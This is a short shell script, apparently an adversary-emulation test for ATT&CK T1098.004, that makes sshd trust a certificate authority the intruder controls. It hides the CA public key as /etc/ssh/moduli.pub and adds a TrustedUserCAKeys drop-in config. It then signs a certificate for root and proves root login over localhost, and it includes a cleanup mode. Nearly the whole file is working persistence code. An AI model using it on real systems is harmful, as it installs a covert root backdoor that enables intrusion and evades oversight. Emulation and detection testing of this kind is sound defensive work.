#!/bin/sh
# T1098.004 (quiet): sshd trusts a certification authority of the intruder's
M=/var/tmp/luytre-foothold N=15-user-ca
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
key() { rm -f "$M/$N.key" "$M/$N.key.pub"; ssh-keygen -q -t ed25519 -N "" -C "$1" -f "$M/$N.key"; }
plant() {
  key "ca"
  cp $M/$N.key.pub /etc/ssh/moduli.pub
  w /etc/ssh/sshd_config.d/20-moduli.conf <<'E'
TrustedUserCAKeys /etc/ssh/moduli.pub
E
  systemctl reload ssh; sleep 1
}
prove() {
  rm -f "$M/$N"
  ssh-keygen -q -t ed25519 -N "" -f $M/$N.u; ssh-keygen -q -s $M/$N.key -I u -n root $M/$N.u.pub
  ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i $M/$N.u root@127.0.0.1 "id > /var/tmp/luytre-foothold/15-user-ca"
  rm -f $M/$N.u*
  seen
}
remove() {
  rm -f /etc/ssh/sshd_config.d/20-moduli.conf /etc/ssh/moduli.pub; systemctl reload ssh
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
